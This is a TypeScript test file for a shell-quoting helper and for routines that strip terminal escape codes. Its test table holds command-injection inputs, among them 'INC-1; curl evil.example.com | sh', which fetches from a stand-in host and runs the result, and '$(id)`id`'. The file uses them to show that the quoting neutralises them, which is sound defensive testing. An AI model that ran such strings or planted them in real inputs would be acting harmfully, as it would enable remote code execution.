import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { plain, word } from '../../cli/wording.ts';
import { plain as plainOnScreen } from '../../infra/local/command/screen.ts';

test.each([
  ['INC-2041', 'INC-2041'],
  ['siem:2026/11', 'siem:2026/11'],
  ['two words', "'two words'"],
  ['INC-1; curl evil.example.com | sh', "'INC-1; curl evil.example.com | sh'"],
  ['$(id)`id`', "'$(id)`id`'"],
  ["it's", "'it'\\''s'"],
  ['#1', "'#1'"],
  ['--all', "-- '--all'"],
  ['INC\u001b[2J\n1', "'INC 1'"],
  ['', "''"],
])('%j is one word of a command line: %s', (text, expected) => {
  expect(word(text)).toBe(expected);
});

test('a shell reads it as the text that it is, whatever that is', { timeout: 30_000 }, () => {
  const texts = fc.sample(
    fc.string({ unit: 'binary' }).map((text) => text.toWellFormed()),
    200,
  );
  const read = execFileSync('sh', ['-c', `printf '%s\\n' ${texts.map((text) => word(`x${text}`)).join(' ')}`]);
  expect(read.toString().split('\n').slice(0, -1)).toEqual(texts.map((text) => plain(`x${text}`)));
});

/** Long enough to be noticed, not so long that nobody would wait for it to fail. */
const LONG = 150_000;

test.each(['\u001b]', '\u001b[1;', '\u009b;', '\u001b'])(
  'however long a text of %j is, it is made plain at once',
  { timeout: 1000 },
  (part) => {
    const text = part.repeat(LONG / part.length);
    expect(plain(text).length).toBeLessThanOrEqual(400);
    expect(plainOnScreen(text).length).toBeLessThanOrEqual(4000);
  },
);
